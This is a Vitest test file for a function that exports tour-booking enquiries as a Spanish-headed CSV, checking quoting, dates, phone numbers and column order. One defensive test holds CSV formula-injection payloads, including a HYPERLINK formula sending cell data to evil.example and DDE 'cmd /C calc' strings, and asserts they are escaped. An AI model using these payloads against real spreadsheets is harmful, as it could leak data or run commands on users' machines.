import { describe, expect, test } from "vitest";
import { checkTrip } from "../../../supabase/functions/_shared/trip-schema.ts";
import { contactsCsv, type ExportedEnquiry } from "./export-csv";

const enquiry: ExportedEnquiry = {
  id: "8f14e45f-ceea-467f-a8ad-1b1e8a1f0c11",
  created_at: "2026-11-20T06:14:09.123+00:00",
  name: "Lucía Ferrer",
  email: "lucia@correo.example",
  phone: "600 000 001",
  preferred_contact: null,
  message: "Somos dos y querríamos ir en septiembre.",
  language: "es",
  source: "/es/contact?tour=namib",
  state: "new",
  answered_at: null,
  ...checkTrip(undefined),
  tour_name: null,
  estimate: null,
  departure: null,
  enquiry_contacts: [],
};

/** Cells as an RFC 4180 parser reads them, without the byte order mark. */
function read(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /"((?:[^"]|"")*)"(;|\r\n)/y;
  cell.lastIndex = 1;
  while (cell.lastIndex < csv.length) {
    const at = cell.lastIndex;
    const match = cell.exec(csv);
    if (!match) throw new Error(`not a cell: ${csv.slice(at, at + 40)}`);
    row.push((match[1] ?? "").replaceAll('""', '"'));
    if (match[2] === ";") continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

const cellOf = (changes: Partial<ExportedEnquiry>, column: number) =>
  read(contactsCsv([{ ...enquiry, ...changes }]))[1]?.[column];

describe("H12: enquiries as CSV", () => {
  test("is UTF-8 with a byte order mark, has a Spanish heading, and ends every line with CRLF", () => {
    const csv = contactsCsv([enquiry]);
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.slice(1)).toBe(
      '"Fecha";"Nombre";"Correo";"Teléfono";"Contacto preferido";"Mensaje";"Idioma";"Página";"Identificador";"Estado";"Contestado";"Canal";"Tour";"Viaje desde";"Viaje hasta";"Flexible";"Adultos";"Niños";"Estilo";"Presupuesto";"Primera vez";"Salida";"Estimación"\r\n' +
        '"20/11/2026 08:14";"Lucía Ferrer";"lucia@correo.example";"600 000 001";"";' +
        '"Somos dos y querríamos ir en septiembre.";"Español";"/es/contact?tour=namib";' +
        '"8f14e45f-ceea-467f-a8ad-1b1e8a1f0c11";"Nueva";"";"";"";"";"";"";"";"";"";"";"";"";""\r\n',
    );
  });

  test("without enquiries consists of the heading", () => {
    expect(read(contactsCsv([]))).toHaveLength(1);
  });

  test.each([
    ["quotation marks", 'Dijo "sí", y "no"'],
    ["separators", "uno;dos,tres\tcuatro"],
    ["lines", "uno\ndos\r\n\r\ntres\rcuatro"],
    ["an end that looks like a cell's", 'fin";"otra'],
    ["a backslash", "a\\"],
    ["letters of every kind", "Étienne 😀 汉字 שלום"],
    ["blanks around", "  hola  "],
  ])("%s come back as they were", (_what, message) => {
    expect(cellOf({ message }, 5)).toBe(message);
    expect(read(contactsCsv([{ ...enquiry, message }, enquiry]))).toHaveLength(3);
  });

  test.each([
    '=HYPERLINK("http://evil.example/?"&A1;"Premio")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+9)",
    "=",
  ])("%j runs nowhere, in whatever column it stands", (text) => {
    for (const [field, column] of [
      ["name", 1],
      ["email", 2],
      ["phone", 3],
      ["preferred_contact", 4],
      ["message", 5],
      ["source", 7],
    ] as const) {
      expect(cellOf({ [field]: text }, column)).toBe(`'${text}`);
    }
  });

  test.each([
    ["Hola,=1+1", "Hola,'=1+1"],
    ["Hola, @SUM(1+9)", "Hola, '@SUM(1+9)"],
    ["Hola;-2+3", "Hola;'-2+3"],
    ['Hola,"=1+1"', 'Hola,"\'=1+1"'],
    ["Hola\t+1", "Hola\t'+1"],
    ["Hola:\n=1+1\r\n- dos\r＝1", "Hola:\n'=1+1\r\n'- dos\r'＝1"],
    ["Hola,\n;=1+1", "Hola,\n;'=1+1"],
    ["=1+1,=2", "'=1+1,'=2"],
    ["Somos 2+2, ida-vuelta: a@b.example", "Somos 2+2, ida-vuelta: a@b.example"],
  ])("%j runs nowhere in a spreadsheet with another separator: %j", (message, cell) => {
    expect(cellOf({ message }, 5)).toBe(cell);
  });

  test.each([
    ["+34 600 000 001", "'+34 600 000 001"],
    ["+34600000001", "'+34600000001"],
    ["0600000001", "'0600000001"],
    ["600000001", "'600000001"],
    ["600 000 001", "600 000 001"],
    ["(011) 000-0000", "(011) 000-0000"],
    [null, ""],
    ["", ""],
  ])("the phone %j stays a text: %j", (phone, cell) => {
    expect(cellOf({ phone }, 3)).toBe(cell);
  });

  test("R1: state, first answer and its channel stand last", () => {
    const at = "2026-11-20T08:00:00+00:00";
    const contact = (channel: "phone" | "whatsapp", reached: boolean, moment = at) => ({
      at: moment,
      channel,
      reached,
    });
    const cells = (changes: Partial<ExportedEnquiry>) =>
      [9, 10, 11].map((column) => cellOf({ state: "active", ...changes }, column));
    expect(cells({ state: "new", enquiry_contacts: [contact("phone", false)] })).toEqual([
      "Nueva",
      "",
      "",
    ]);
    const later = contact("phone", true, "2026-11-21T08:00:00Z");
    const enquiry_contacts = [later, contact("whatsapp", true, "2026-11-20T08:00:00Z")];
    expect(cells({ answered_at: at, enquiry_contacts })).toEqual([
      "En curso",
      "20/11/2026 10:00",
      "WhatsApp",
    ]);
    expect(cells({ answered_at: at, enquiry_contacts: [later] })[2]).toBe("Correo");
  });

  test("keeps an apostrophe of the visitor", () => {
    expect(cellOf({ name: "'Ana" }, 1)).toBe("'Ana");
    expect(cellOf({ name: "D'Arc" }, 1)).toBe("D'Arc");
  });

  test("has blank cells for missing values", () => {
    const row = { phone: null, preferred_contact: null, language: null, source: null };
    expect([3, 4, 6, 7].map((column) => cellOf(row, column))).toEqual(["", "", "", ""]);
  });

  test.each([
    ["2026-01-01T22:30:00+00:00", "02/01/2026 00:30"],
    ["2026-07-01T23:59:59.999999+02:00", "01/07/2026 23:59"],
  ])("%s is %s in Johannesburg", (created_at, shown) => {
    expect(cellOf({ created_at }, 0)).toBe(shown);
  });
});

test("R2: the details of the journey stand after the answer", () => {
  const trip = checkTrip({
    from: "2027-07-04",
    to: "2027-07-15",
    flexible: true,
    adults: 2,
    ages: [8, 11],
    style: "luxury",
    budget: "under-3000",
    first_time: false,
  });
  expect(
    read(contactsCsv([{ ...enquiry, ...trip, tour_name: "=Kalahari" }]))[1]?.slice(12, 21),
  ).toEqual([
    "'=Kalahari",
    "04/07/2027",
    "15/07/2027",
    "Sí",
    "2",
    "8, 11",
    "Lujo",
    "Hasta 3000",
    "No",
  ]);
});

test("R4: departure and estimate are the last columns, the amount as a number", () => {
  const cells = (estimate: ExportedEnquiry["estimate"]) =>
    read(contactsCsv([{ ...enquiry, departure: { starts_on: "2027-07-04" }, estimate }]))[1]?.slice(
      21,
    );
  const one = { per_person: 6670, total: 24_012.5, size: 4 };
  expect(cells(one)).toEqual(["04/07/2027", "24012,5"]);
  expect(cells({ ...one, max_per_person: 7690, max_total: 27_000 })?.[1]).toBe("24012,5–27000");
});
